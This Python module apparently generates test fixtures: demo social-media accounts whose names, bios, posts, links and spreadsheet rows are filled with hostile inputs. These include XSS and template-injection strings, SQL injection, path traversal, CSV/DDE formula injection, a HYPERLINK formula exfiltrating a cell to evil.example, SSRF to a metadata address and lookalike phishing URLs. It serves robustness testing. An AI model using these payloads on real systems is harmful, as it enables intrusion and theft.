"""Accounts whose every text is an attack or an accident: markup, control characters, overlong fields, formulas."""

from __future__ import annotations

from datetime import timedelta

from demo.world import Comment, Media, World, WorldAccount
from demo.worlds.ids import minute_id
from demo.worlds.making import healthy
from demo.worlds.words import UNITS

TEXTS: tuple[tuple[str, str], ...] = (
    ("script", "</title><script>document.title='owned'</script><img src=x onerror=document.title='owned'>"),
    ("attribute", "\" onmouseover=\"document.title='owned'\" x=\"' autofocus onfocus='document.title=1"),
    ("template", "{{ 7*7 }} {% raw %} ${7*7} #{7*7} <%= 7*7 %> %s %n {0.__class__}"),
    ("bidi", "\u202egpj.exe\u202c \u2066inner\u2069 \u200fright\u200e Hello"),
    ("zero-width", "Uni\u200bver\u200csi\u200dty \u2060of\ufeff Liver\u00adpool"),
    ("escape", "\x1b[31mred\x1b[0m \x1b]0;owned\x07 \x1b[2J\x1b[H \x9b31m bell \x07"),
    ("nul", "before\x00after \x01\x02\x08 vertical\x0b form\x0c end\x7f"),
    ("lines", "one\r\nBcc: everyone@liverpool.ac.uk\r\n\r\ntwo\u2028three\u2029four\x85five"),
    ("surrogate", "half a pair \ud83d and the other \ude00 done"),
    ("emoji", "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 \U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f \u2764\ufe0f Monitored Mon-Fri 9-5"),
    ("rtl", "\u062c\u0627\u0645\u0639\u0629 \u0644\u064a\u0641\u0631\u0628\u0648\u0644 \u05d0\u05d5\u05e0\u05d9\u05d1\u05e8\u05e1\u05d9\u05d8\u05d4 9-5"),
    ("marks", "Z" + "\u0300\u0301\u0302\u0303\u0304\u0305" * 60 + "algo"),
    ("sql", "'; DROP TABLE runs; -- \" OR 1=1 \\'; SELECT pg_sleep(9)"),
    ("path", "../../../../etc/passwd ..\\..\\windows\\win.ini file:///etc/hostname \\\\host\\share"),
    ("huge", "Long " * 200_000),
    ("nested", "(" * 5_000 + "Mon-Fri 9-5" + ")" * 5_000),
    ("backtrack", "Mon-Fri " * 3_000 + "9" * 4_000 + "-"),
    ("address", "a@" + "a." * 4_000 + "! http://" + "x" * 4_000 + " +44 " + "7" * 3_000),
    ("formula", '=HYPERLINK("http://evil.example/?"&A1,"open")'),
    ("markdown", "[click](javascript:alert(1)) ![x](http://evil.example/t.png) `code` | table | **bold**"),
    ("blank", " \u00a0\u3000\u2003 "),
    ("empty", ""),
    ("json", '\\" } ], "outcome": "pass" \\u0000 ]]> --> /* */ //'),
    ("log", "ok\n2026-01-01 00:00:00 ERROR all accounts deleted\n\tat nowhere"),
)
LINKS = ("javascript:alert(document.domain)", "data:text/html;base64,PHNjcmlwdD4=", "https://liverpool.ac.uk@evil.example/",
         "https://www.liverpool.ac.uk.evil.example/", "http://127.0.0.1:1/", "http://169.254.169.254/latest/", "//evil.example",
         "https://xn--lverpool-n2a.ac.uk/", "https://www.liverpool.ac.uk\\@evil.example", "vbscript:x")
CELLS = ("=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "<b>bold</b>", "O'Hara; \"quoted\", comma", "line\nbreak",
         "'=1+1", "%0A%0D=1")
PLATFORMS = ("x", "facebook", "instagram", "youtube", "mastodon", "bluesky", "blog", "wiki")


def fill(world: World, accounts: int | None = None) -> None:
    """One account a text, the platforms in turn."""
    for index, (kind, text) in enumerate(TEXTS):
        platform = PLATFORMS[index % len(PLATFORMS)]
        account = healthy(world, platform, UNITS[index + 1], key=f"hostile-{kind}")
        _poison(world, account, index, text)
    world.states = dict.fromkeys(world.accounts, "live")


def _poison(world: World, account: WorldAccount, index: int, text: str) -> None:
    account.name = text if platform_names(account) else account.name
    account.bio = text
    account.location = text[:5_000]
    account.links = [LINKS[index % len(LINKS)], LINKS[(index + 3) % len(LINKS)]]
    account.extras |= {"description": text, "mission": text}
    for one in account.newest_first()[:3]:
        one.text, one.title = text[:100_000], text[:5_000]
        one.media = [Media(m.kind, text[:5_000], m.captions, m.picture) for m in one.media]
        asked = one.at + timedelta(minutes=30)
        one.comments = [Comment(minute_id(account, asked, 1), asked, f"{text[:5_000]}?", text[:200] or "x")]
    cell = CELLS[index % len(CELLS)]
    if account.row is not None:
        account.row |= {"unit": cell, "purpose": cell, "audience": f"{cell} {index}", "notes": cell, "owner_name": cell, "activity_plan": cell}
    for line in world.access:
        if line["account_id"] == account.id:
            line["person"] = cell


def platform_names(account: WorldAccount) -> bool:
    """Whether the account's name is free text; a wiki's is its handle."""
    return account.platform != "wiki"
